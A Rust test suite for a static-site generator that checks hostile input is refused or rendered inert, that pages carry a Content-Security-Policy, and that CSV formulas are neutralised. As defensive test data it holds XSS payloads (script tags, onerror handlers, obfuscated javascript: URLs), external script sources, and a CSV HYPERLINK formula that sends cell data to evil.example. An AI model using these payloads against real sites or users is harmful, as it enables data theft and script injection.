//! Issue 11, "nothing executable or remote reaches a page": a corpus of hostile payloads in
//! every free-text field of a repository, Content-Security-Policy on every page, CSV formula
//! neutralisation, and a property test of the Markdown renderer.

mod scan;

use std::path::Path;

use proptest::prelude::*;

use crate::support::{assert_golden, fixtures, Fixture, TempDir};

/// The exact start of the Content-Security-Policy every page carries.
const CSP: &str = "<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; script-src 'none'; ";

/// One line of `payloads.txt`.
struct Payload {
    must_fail: bool,
    text: String,
}

fn payloads() -> Vec<Payload> {
    let text = std::fs::read_to_string(fixtures().join("hostile/payloads.txt")).unwrap();
    text.lines()
        .filter(|l| !l.is_empty() && !l.starts_with('#'))
        .map(|l| {
            let (kind, payload) = l.split_at(2);
            assert!(kind == "E " || kind == "A ", "bad line {l:?}");
            Payload {
                must_fail: kind == "E ",
                text: payload.replace("\\n", "\n"),
            }
        })
        .collect()
}

/// Escapes text for a YAML or TOML double-quoted string (both share these escapes).
fn quoted(text: &str) -> String {
    text.replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n")
        .replace('\t', "\\t")
        .replace('\r', "\\r")
}

/// Writes the hostile repository with `plain` in every plain-text field and `markdown` in
/// every Markdown field.
fn write_repo(into: &Path, plain: &str, markdown: &str) {
    let plain_one_line = plain.replace('\n', " ");
    // `@@S@@` (the commune name and province) gets at most 100 characters: longer names are
    // refused by `check` (120 characters at most, prefix included), which another test pins.
    let short: String = plain_one_line.chars().take(100).collect();
    let from = fixtures().join("hostile/repo");
    for entry in walk(&from) {
        let rel = entry.strip_prefix(&from).unwrap();
        let text = std::fs::read_to_string(&entry).unwrap();
        let text = if rel.extension().is_some_and(|e| e == "md") {
            let (front, body) = text.split_at(text[3..].find("---").unwrap() + 3);
            front.replace("@@P@@", &quoted(&plain_one_line)) + &body.replace("@@M@@", markdown)
        } else {
            text.replace("@@P@@", &quoted(&plain_one_line))
                .replace("@@S@@", &quoted(&short))
                .replace("@@M@@", &quoted(markdown))
        };
        let to = into.join(rel);
        std::fs::create_dir_all(to.parent().unwrap()).unwrap();
        std::fs::write(to, text).unwrap();
    }
}

fn walk(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).unwrap() {
        let p = e.unwrap().path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out.sort();
    out
}

fn build(plain: &str, markdown: &str) -> parcours::Outcome {
    let dir = TempDir::new("hostile");
    write_repo(&dir.0, plain, markdown);
    parcours::build_site(&parcours::Options {
        root: dir.0.clone(),
        ..Default::default()
    })
    .expect("no I/O error")
}

/// Every reason the built site is not inert, page by page.
fn unsafe_pages(outcome: &parcours::Outcome) -> Vec<String> {
    let site = outcome.site.as_ref().expect("a site");
    let mut out = Vec::new();
    for (path, bytes) in site {
        if path.ends_with(".html") || path.ends_with(".svg") {
            let html = String::from_utf8_lossy(bytes);
            let found = if path.ends_with("/questionnaire.html") {
                scan::questionnaire_problems(&html)
            } else {
                scan::problems(&html)
            };
            out.extend(found.into_iter().map(|p| format!("{path}: {p}")));
        }
    }
    out
}

fn errors(outcome: &parcours::Outcome) -> Vec<&parcours::diagnostic::Diagnostic> {
    outcome
        .diagnostics
        .iter()
        .filter(|d| d.to_string().contains(": erreur: "))
        .collect()
}

#[test]
fn issue_11_the_hostile_fixture_builds_clean() {
    let outcome = build("texte", "texte");
    assert!(errors(&outcome).is_empty(), "{:?}", outcome.diagnostics);
    assert_eq!(unsafe_pages(&outcome), Vec::<String>::new());
    // An http(s) website is still linked (the template only drops other schemes).
    let ic = &outcome.site.as_ref().unwrap()["intercommunales/bep/index.html"];
    assert!(String::from_utf8_lossy(ic).contains("<a href=\"https://www.bep.be/\">"));
}

#[test]
fn issue_11_hostile_payloads_in_every_field_are_errors_or_inert() {
    let payloads = payloads();
    assert!(payloads.len() >= 150, "{} payloads", payloads.len());
    let markdown_files = [
        "content/methodology.yaml",
        "content/handbook/principes.md",
        "communes/valdor/audits/2025-04.yaml",
    ];
    let mut failures = Vec::new();
    for p in &payloads {
        let outcome = build(&p.text, &p.text);
        let errs = errors(&outcome);
        if p.must_fail {
            let all_located = errs.iter().all(|d| d.line > 0 && d.column > 0);
            let every_file = markdown_files
                .iter()
                .all(|f| errs.iter().any(|d| d.path == *f));
            if outcome.site.is_some() || !all_located || !every_file {
                failures.push(format!(
                    "{:?}: expected located errors in every Markdown file, got {:?}",
                    p.text, outcome.diagnostics
                ));
            }
            // The same payload in plain-text fields only must be accepted and inert.
            let plain = build(&p.text, "texte");
            check_accepted(&p.text, &plain, &mut failures);
        } else {
            check_accepted(&p.text, &outcome, &mut failures);
        }
    }
    assert!(
        failures.is_empty(),
        "{} failures:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

fn check_accepted(payload: &str, outcome: &parcours::Outcome, failures: &mut Vec<String>) {
    if outcome.site.is_none() {
        failures.push(format!("{payload:?}: refused: {:?}", outcome.diagnostics));
        return;
    }
    let bad = unsafe_pages(outcome);
    if !bad.is_empty() {
        failures.push(format!("{payload:?}: {bad:?}"));
    }
}

#[test]
fn issue_11_refused_links_are_located_errors() {
    let fixture = Fixture::invalid("hostile-links");
    let outcome = fixture.build();
    assert!(outcome.site.is_none());
    assert_golden(
        &fixtures().join("invalid/hostile-links/expected/diagnostics.txt"),
        &fixture.diagnostics(),
    );
}

#[test]
fn issue_11_d9_angle_questions_and_source_holders_are_escaped() {
    let outcome = build("<img src=x onerror=alert(1)>", "texte");
    let site = outcome.site.expect("built");
    for page in ["handbook/1.0/angles.html", "handbook/1.0/sources.html"] {
        let html = String::from_utf8_lossy(&site[page]);
        assert!(
            html.contains("<p>&lt;img src=x onerror=alert(1)&gt;</p>"),
            "{page}"
        );
        assert!(!html.contains("<img"), "{page}");
    }
}

#[test]
fn issue_11_d15_summary_headings_take_no_page_id_and_sit_under_the_section() {
    let outcome = build(
        "texte",
        "# Plan\n\n## Synthèse\n\n# Réponses\n\n# x {#contenu}",
    );
    let site = outcome.site.expect("built");
    let html = String::from_utf8_lossy(&site["communes/valdor/index.html"]);
    for id in ["plan", "synthese", "reponses", "contenu"] {
        assert_eq!(html.matches(&format!("id=\"{id}\"")).count(), 1, "{id}");
    }
    let summary = &html[html.find("id=\"synthese\"").unwrap()..];
    let summary = &summary[..summary.find("</section>").unwrap()];
    assert!(
        summary.contains("<h3 id=\"md-plan\">Plan</h3>"),
        "{summary}"
    );
    assert!(summary.contains("<h4 id=\"md-synthese\">"), "{summary}");
    assert!(summary.contains("<h3 id=\"md-x\">x</h3>"), "{summary}");
    assert!(!summary.contains("<h2 id=\"md"), "{summary}");
}

#[test]
fn issue_11_every_page_carries_the_content_security_policy() {
    let outcome = build("texte", "texte");
    let site = outcome.site.unwrap();
    let pages: Vec<_> = site.iter().filter(|(p, _)| p.ends_with(".html")).collect();
    assert!(pages.len() > 10);
    for (path, bytes) in pages {
        let html = String::from_utf8_lossy(bytes);
        let head = &html[..html.find("</head>").unwrap_or(html.len())];
        if path.ends_with("/questionnaire.html") {
            // The one page with a script, its own (tests/suite/questionnaire.rs).
            let own = CSP.replace("script-src 'none'", "script-src 'self'");
            assert_eq!(head.matches(own.as_str()).count(), 1, "{path}");
        } else {
            assert_eq!(head.matches(CSP).count(), 1, "{path}");
        }
        assert!(
            head.contains(
                "style-src 'self'; img-src 'self'; base-uri 'none'; form-action 'none'\">"
            ),
            "{path}"
        );
    }
}

#[test]
fn issue_11_csv_formulas_are_neutralised() {
    let outcome = build("=HYPERLINK(\"http://evil.example/?d=\"&A1,\"x\")", "texte");
    let site = outcome.site.expect("built");
    let csv = String::from_utf8_lossy(&site["data/audits.csv"]);
    let row = csv.lines().nth(1).unwrap();
    // The province cell starts with the payload: quoted, and its `=` behind a `'`.
    assert!(
        row.contains(",\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A1,\"\"x\"\")\","),
        "{row}"
    );
    assert!(
        !csv.lines()
            .any(|l| l.split(',').any(|c| c.starts_with('='))),
        "{csv}"
    );
}

/// Markdown fragments, hostile and ordinary, that the property test strings together.
fn fragment() -> impl Strategy<Value = String> {
    let scheme = prop::collection::vec(
        (
            0usize..4,
            prop::sample::select("javascript:".chars().collect::<Vec<_>>()),
        ),
        1..2,
    )
    .prop_flat_map(|_| {
        prop::collection::vec(0u8..5, 11).prop_map(|modes| {
            "javascript:"
                .chars()
                .zip(modes)
                .map(|(c, m)| match m {
                    0 => c.to_string(),
                    1 => c.to_ascii_uppercase().to_string(),
                    2 => format!("&#{};", c as u32),
                    3 => format!("&#x{:x};", c as u32),
                    _ => format!("{c}&#x09;"),
                })
                .collect::<String>()
        })
    });
    let dest = prop_oneof![
        scheme.clone().prop_map(|s| format!("{s}alert(1)")),
        Just("vbscript:msgbox(1)".to_string()),
        Just("data:text/html;base64,PHNjcmlwdD4=".to_string()),
        Just("//evil.example/x".to_string()),
        Just("https://evil.example/p.gif".to_string()),
        Just("https://example.org".to_string()),
        Just("../ok.html#x".to_string()),
        Just("critere:s-informer.annuaire".to_string()),
    ];
    let text = "[a-zé ]{0,6}";
    prop_oneof![
        text.prop_map(String::from),
        (text, dest.clone()).prop_map(|(t, d)| format!("[{t}]({d})")),
        (text, dest.clone()).prop_map(|(t, d)| format!("![{t}]({d})")),
        dest.clone().prop_map(|d| format!("<{d}>")),
        (text, dest.clone()).prop_map(|(t, d)| format!("[{t}][r]\n\n[r]: {d}\n")),
        (
            dest.clone(),
            prop::sample::select(vec![
                "a href",
                "img src",
                "iframe src",
                "svg onload",
                "p onclick",
                "span style"
            ])
        )
            .prop_map(|(d, t)| format!("<{t}=\"{d}\">x</{}>", t.split(' ').next().unwrap())),
        prop::sample::select(vec![
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg><script>x</script></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<!--",
            "-->",
            "<![CDATA[",
            "]]>",
            "<style>",
            "</style>",
            "<abbr title=\"x\" onclick=\"y()\">",
            "</abbr>",
            "<a",
            "\"",
            "'",
            "`",
            "**",
            "_",
            "# ",
            "## Plan {#contenu}",
            "> ",
            "- ",
            "| a |\n|---|\n| b |",
            "[^1]",
            "[^1]: n",
            "```\n",
            "&#106;",
            "&colon;",
            "<",
            ">",
            "&",
        ])
        .prop_map(String::from),
    ]
}

fn markdown() -> impl Strategy<Value = String> {
    prop::collection::vec(
        (
            fragment(),
            prop::sample::select(vec!["", " ", "\n", "\n\n", "\n- ", "\n> ", "\n# "]),
        ),
        0..12,
    )
    .prop_map(|parts| parts.into_iter().map(|(f, s)| f + s).collect())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, ..ProptestConfig::default() })]

    #[test]
    fn issue_11_rendered_markdown_never_runs_code_or_loads_another_origin(src in markdown()) {
        let resolve = |s: &str, id: &str| Some(format!("../{s}/{id}.html"));
        for html in [
            parcours::markdown::to_html(&src, &resolve),
            parcours::markdown::to_inline_html(&src, &resolve),
            parcours::markdown::to_submitted_html(&src),
        ] {
            let found = scan::problems(&html);
            prop_assert!(found.is_empty(), "{:?} -> {}: {:?}", src, html, found);
        }
    }
}

#[test]
fn issue_15_the_questionnaire_exemption_covers_its_own_controls_only() {
    let own = "<script src=\"../../static/questionnaire.js\" defer></script>\
        <input type=\"radio\" id=\"q-a-2\" name=\"score:a\" value=\"2\">\
        <textarea id=\"q-a-evidence\"></textarea><button type=\"button\" id=\"q-export\">x</button>";
    assert_eq!(scan::questionnaire_problems(own), Vec::<String>::new());
    assert!(
        !scan::problems(own).is_empty(),
        "other pages allow none of it"
    );
    for foreign in [
        "<script src=\"https://evil.example/x.js\" defer></script>",
        "<script src=\"../../static/questionnaire.js\" defer async></script>",
        "<input type=\"text\" id=\"q-x\">",
        "<input type=\"radio\" id=\"x\">",
        "<button id=\"q-b\">x</button>",
        "<input type=\"radio\" id=\"q-a\" onclick=\"x()\">",
        "<iframe id=\"q-f\"></iframe>",
    ] {
        assert!(
            !scan::questionnaire_problems(foreign).is_empty(),
            "{foreign} passed"
        );
    }
}
